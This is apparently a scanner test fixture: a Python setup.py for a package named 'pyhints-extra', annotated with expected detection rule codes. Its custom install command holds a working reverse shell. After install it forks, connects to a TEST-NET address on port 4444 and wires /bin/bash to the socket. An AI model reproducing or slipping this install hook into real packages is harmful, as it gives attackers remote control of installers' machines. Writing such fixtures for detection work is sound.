# Install-time reverse shell: a custom install command forks and wires a
# shell to a TCP connection. Defanged: TEST-NET address.
import os
import pty
import socket

from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        if os.fork() != 0:
            return
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect(("203.0.113.66", 4444))  # expect: HS105 critical, HS118 high
        os.dup2(s.fileno(), 0)
        os.dup2(s.fileno(), 1)
        os.dup2(s.fileno(), 2)
        pty.spawn("/bin/bash")  # expect: HS108 critical


setup(
    name="pyhints-extra",
    version="0.1.4",
    packages=[],
    cmdclass={"install": PostInstall},
)
